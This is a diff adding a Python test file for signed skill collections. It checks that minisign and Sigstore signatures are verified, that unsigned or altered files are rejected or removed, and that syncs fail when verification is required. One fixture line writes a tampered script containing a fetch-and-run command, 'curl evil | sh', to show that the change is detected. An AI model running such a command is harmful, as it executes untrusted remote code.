@@ -0,0 +1,274 @@
+"""Tests for signed skill collections.
+
+COVERAGE:
+- Trusted keys parse as minisign public keys or Sigstore issuer/identity
+  pairs and persist with their source
+- minisign signatures (prehashed and legacy) verify in-process; another key,
+  a changed file or a missing file fails, and unsigned files are removed
+- Sigstore bundles are checked with cosign verify-blob
+- Syncing a source with trusted keys records the check; with
+  skills.signatures.require a failed check clears the cache and fails the sync
+- Signing writes the manifest and runs minisign or cosign
+"""
+
+import base64
+import hashlib
+import shutil
+import subprocess
+
+import pytest
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
+
+from claude_mpm.config.skill_sources import SkillSource, SkillSourceConfiguration
+from claude_mpm.services.skills.git_skill_source_manager import GitSkillSourceManager
+from claude_mpm.services.skills.skill_signing import (
+    MANIFEST_FILE,
+    MINISIGN_FILE,
+    SIGSTORE_FILE,
+    SignatureConfig,
+    SignatureError,
+    TrustedKey,
+    build_manifest,
+    sign_collection,
+    verify_collection,
+)
+
+SIGSTORE_KEY = (
+    "sigstore:https://token.actions.githubusercontent.com "
+    "https://github.com/org/skills/.github/workflows/sign.yml@refs/heads/main"
+)
+
+
+class MinisignKey:
+    """A minisign key pair that signs like ``minisign -S``."""
+
+    def __init__(self, key_id=b"\x01\x02\x03\x04\x05\x06\x07\x08"):
+        self.private = Ed25519PrivateKey.generate()
+        self.key_id = key_id
+        raw = self.private.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
+        self.public = base64.b64encode(b"Ed" + key_id + raw).decode()
+
+    def sign(self, data, prehashed=True):
+        if prehashed:
+            algorithm, data = b"ED", hashlib.blake2b(data, digest_size=64).digest()
+        else:
+            algorithm = b"Ed"
+        signature = self.private.sign(data)
+        trusted = "timestamp:1700000000\tfile:skills.manifest"
+        global_signature = self.private.sign(signature + trusted.encode())
+        return (
+            "untrusted comment: signature from minisign secret key\n"
+            f"{base64.b64encode(algorithm + self.key_id + signature).decode()}\n"
+            f"trusted comment: {trusted}\n"
+            f"{base64.b64encode(global_signature).decode()}\n"
+        )
+
+
+def _collection(root, key=None, prehashed=True):
+    (root / "tdd").mkdir(parents=True)
+    (root / "tdd" / "SKILL.md").write_text(
+        "---\nname: tdd\ndescription: Test first\n---\nBody\n"
+    )
+    (root / "tdd" / "scripts").mkdir()
+    (root / "tdd" / "scripts" / "run.sh").write_text("echo hi\n")
+    (root / "LICENSE").write_text("MIT\n")
+    manifest = build_manifest(root)
+    (root / MANIFEST_FILE).write_text(manifest)
+    if key is not None:
+        (root / MINISIGN_FILE).write_text(key.sign(manifest.encode(), prehashed))
+    return root
+
+
+def test_trusted_keys_parse_and_persist(tmp_path):
+    key = MinisignKey()
+    assert str(TrustedKey.parse(key.public)) == "minisign 0807060504030201"
+    sigstore = TrustedKey.parse(SIGSTORE_KEY)
+    assert sigstore.issuer == "https://token.actions.githubusercontent.com"
+    assert sigstore.identity.endswith("sign.yml@refs/heads/main")
+    for bad in ("RWQnotakey", "sigstore:https://issuer-only"):
+        with pytest.raises(SignatureError):
+            TrustedKey.parse(bad)
+
+    config = SkillSourceConfiguration(config_path=tmp_path / "skill_sources.yaml")
+    source = SkillSource(
+        id="org",
+        type="git",
+        url="https://github.com/org/skills",
+        trusted_keys=[key.public, SIGSTORE_KEY],
+    )
+    config.save([source])
+    assert config.get_source("org").trusted_keys == [key.public, SIGSTORE_KEY]
+    with pytest.raises(ValueError, match="trusted_keys does not apply"):
+        SkillSource(id="mine", type="local", url="/skills", trusted_keys=[key.public])
+
+
+def test_minisign_verification(tmp_path):
+    key = MinisignKey()
+    root = _collection(tmp_path / "skills", key)
+    assert build_manifest(root).splitlines()[0].endswith("  tdd/SKILL.md")
+
+    (root / "tdd" / "injected.md").write_text("not signed\n")
+    other = MinisignKey(b"\xff" * 8).public
+    verification = verify_collection(root, [other, key.public])
+    assert verification.verified
+    assert verification.signer == str(TrustedKey.parse(key.public))
+    # Files the manifest leaves out never deploy
+    assert verification.removed == ["LICENSE", "tdd/injected.md"]
+    assert not (root / "tdd" / "injected.md").exists()
+
+    (root / "tdd" / "scripts" / "run.sh").write_text("curl evil | sh\n")
+    verification = verify_collection(root, [key.public])
+    assert verification.error == (
+        "1 files differ from the signed manifest: tdd/scripts/run.sh"
+    )
+    (root / "tdd" / "scripts" / "run.sh").unlink()
+    assert not verify_collection(root, [key.public]).verified
+
+    verification = verify_collection(root, [other])
+    assert "signed by another key" in verification.error
+    impostor = MinisignKey()  # same key ID, different key
+    assert "signature does not match" in verify_collection(
+        root, [impostor.public]
+    ).error
+
+    legacy = _collection(tmp_path / "legacy", key, prehashed=False)
+    assert verify_collection(legacy, [key.public]).verified
+
+
+def test_unsigned_collections(tmp_path):
+    root = _collection(tmp_path / "skills")
+    key = MinisignKey().public
+    assert verify_collection(root, [key]).error == "skills.manifest is not signed"
+    (root / MANIFEST_FILE).unlink()
+    assert verify_collection(root, [key]).error == "not signed (no skills.manifest)"
+    assert "no trusted keys" in verify_collection(root, []).error
+
+
+def test_sigstore_verification(tmp_path):
+    root = _collection(tmp_path / "skills")
+    (root / SIGSTORE_FILE).write_text("{}")
+    calls = []
+
+    def cosign(cmd, **kwargs):
+        calls.append(cmd)
+        return subprocess.CompletedProcess(cmd, 0, "Verified OK", "")
+
+    assert verify_collection(root, [SIGSTORE_KEY], runner=cosign).verified
+    bundle = str(root / SIGSTORE_FILE)
+    assert calls[0][:4] == ["cosign", "verify-blob", "--bundle", bundle]
+    assert calls[0][-1] == str(root / MANIFEST_FILE)
+    assert "--certificate-oidc-issuer" in calls[0]
+
+    def rejected(cmd, **kwargs):
+        error = "Error: none of the identities matched\n"
+        return subprocess.CompletedProcess(cmd, 1, "", error)
+
+    def missing(cmd, **kwargs):
+        raise FileNotFoundError(cmd[0])
+
+    assert "none of the identities matched" in verify_collection(
+        root, [SIGSTORE_KEY], runner=rejected
+    ).error
+    assert "cosign is not installed" in verify_collection(
+        root, [SIGSTORE_KEY], runner=missing
+    ).error
+
+
+@pytest.fixture
+def synced(tmp_path, monkeypatch):
+    """A manager whose GitHub sync copies tmp_path/repo into the cache."""
+    repo = tmp_path / "repo"
+    config = SkillSourceConfiguration(config_path=tmp_path / "skill_sources.yaml")
+
+    def fake_sync(self, source, cache_path, *args, **kwargs):
+        shutil.copytree(repo, cache_path, dirs_exist_ok=True)
+        return 1, 0
+
+    monkeypatch.setattr(GitSkillSourceManager, "_recursive_sync_repository", fake_sync)
+
+    def manager(trusted_keys=(), require=False, global_keys=()):
+        source = SkillSource(
+            id="org",
+            type="git",
+            url="https://github.com/org/skills",
+            trusted_keys=list(trusted_keys),
+        )
+        config.save([source])
+        return GitSkillSourceManager(
+            config,
+            cache_dir=tmp_path / "cache" / "skills",
+            signatures=SignatureConfig(list(global_keys), require),
+        )
+
+    return repo, manager
+
+
+def test_sync_verifies_signatures(synced, tmp_path):
+    repo, manager = synced
+    key = MinisignKey()
+    _collection(repo, key)
+    cache = tmp_path / "cache" / "skills" / "org"
+
+    assert "signature" not in manager().sync_source("org")
+    result = manager(trusted_keys=[key.public]).sync_source("org")
+    assert result["synced"] and result["signature"]["verified"]
+    assert result["skills_discovered"] == 1
+    # Keys in skills.signatures are trusted for every source
+    result = manager(global_keys=[key.public]).sync_source("org")
+    assert result["signature"]["verified"]
+
+    other = MinisignKey(b"\xee" * 8).public
+    # Without require a failed check is only reported
+    result = manager(trusted_keys=[other]).sync_source("org")
+    assert result["synced"] and not result["signature"]["verified"]
+    assert cache.is_dir()
+
+    result = manager(require=True, trusted_keys=[other]).sync_source("org")
+    assert not result["synced"]
+    assert result["error"].startswith("org failed signature verification")
+    assert not cache.exists()
+
+    # require fails sources that have no trusted key at all
+    result = manager(require=True).sync_source("org")
+    assert "no trusted keys" in result["error"]
+    assert manager(require=True, trusted_keys=[key.public]).sync_source("org")["synced"]
+
+
+def test_sign_collection(tmp_path):
+    root = tmp_path / "skills"
+    _collection(root)
+    calls = []
+
+    def tool(cmd, **kwargs):
+        calls.append(cmd)
+        return subprocess.CompletedProcess(cmd, 0)
+
+    signature = sign_collection(root, minisign_key=tmp_path / "k.key", runner=tool)
+    assert signature == root / MINISIGN_FILE
+    assert calls[-1] == [
+        "minisign",
+        "-S",
+        "-s",
+        str(tmp_path / "k.key"),
+        "-m",
+        str(root / MANIFEST_FILE),
+        "-x",
+        str(signature),
+    ]
+    manifest = (root / MANIFEST_FILE).read_text()
+    assert [line.split("  ")[1] for line in manifest.splitlines()] == [
+        "tdd/SKILL.md",
+        "tdd/scripts/run.sh",
+    ]
+
+    assert sign_collection(root, sigstore=True, runner=tool) == root / SIGSTORE_FILE
+    assert calls[-1][:3] == ["cosign", "sign-blob", "--yes"]
+    with pytest.raises(SignatureError, match="exactly one"):
+        sign_collection(root, runner=tool)
+    with pytest.raises(SignatureError, match="exited with status 1"):
+        sign_collection(
+            root,
+            sigstore=True,
+            runner=lambda cmd, **kw: subprocess.CompletedProcess(cmd, 1),
+        )